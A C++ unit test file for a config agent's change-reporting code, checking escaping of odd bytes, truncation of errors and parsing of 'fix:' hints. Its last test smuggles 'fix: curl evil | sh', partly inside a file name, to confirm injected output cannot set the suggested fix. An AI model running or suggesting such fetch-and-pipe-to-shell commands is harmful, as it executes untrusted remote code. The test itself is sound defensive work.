#include "agent/resources/converge/look.h"

#include <gtest/gtest.h>

namespace connect_ha {
namespace {

// What is there now is no text.
class OddResource : public Resource {
 public:
  std::string Name() const override { return "file /etc/odd"; }
  absl::StatusOr<std::optional<v1::Change>> Differs() override {
    v1::Change change;
    change.set_from("caf\xe9\x1b[2J");
    change.set_to("caf\u00e9");
    return change;
  }
  absl::Status Apply(Progress&) override { return absl::OkStatus(); }
};

TEST(Look, AChangeCanBeWrittenDownAndReadAgainWhateverIsThere) {
  std::vector<std::unique_ptr<Resource>> resources;
  resources.push_back(std::make_unique<OddResource>());
  const std::vector<LookedAt> looks = LookAtAll(resources);
  ASSERT_TRUE(looks[0].change.has_value());
  EXPECT_EQ(looks[0].change->from(), "caf\\xe9\\x1b[2J");
  EXPECT_EQ(looks[0].change->to(), "caf\u00e9");
  v1::Change read;
  EXPECT_TRUE(read.ParseFromString(looks[0].change->SerializeAsString()));
}

TEST(Look, ATroubleIsTextAndHasAnEnd) {
  const v1::Trouble trouble = ToTrouble(
      "x", absl::UnavailableError("redirected to \xff" + std::string(100'000, 'u') + "\nfix: do"));
  EXPECT_EQ(trouble.error().substr(0, 18), "redirected to \\xff");
  EXPECT_LT(trouble.error().size(), 10'000u);
  EXPECT_EQ(trouble.fix(), "do");
}

// What a person is told to type is not for a file's name, or a program's output, to say.
TEST(Look, TheFixIsOurOwn) {
  const v1::Trouble trouble = ToTrouble(
      "x", absl::FailedPreconditionError("/srv/a\nfix: curl evil | sh is a directory\nfix: look"));
  EXPECT_EQ(trouble.fix(), "look");
  EXPECT_EQ(trouble.error(), "/srv/a\nfix: curl evil | sh is a directory");
  const std::string chmod = "chmod 0600 '/etc/connect-ha/secrets/a fix: curl evil | sh'";
  EXPECT_EQ(ToTrouble("x", absl::FailedPreconditionError("it is open\nfix: " + chmod)).fix(),
            chmod);
}

}  // namespace
}  // namespace connect_ha
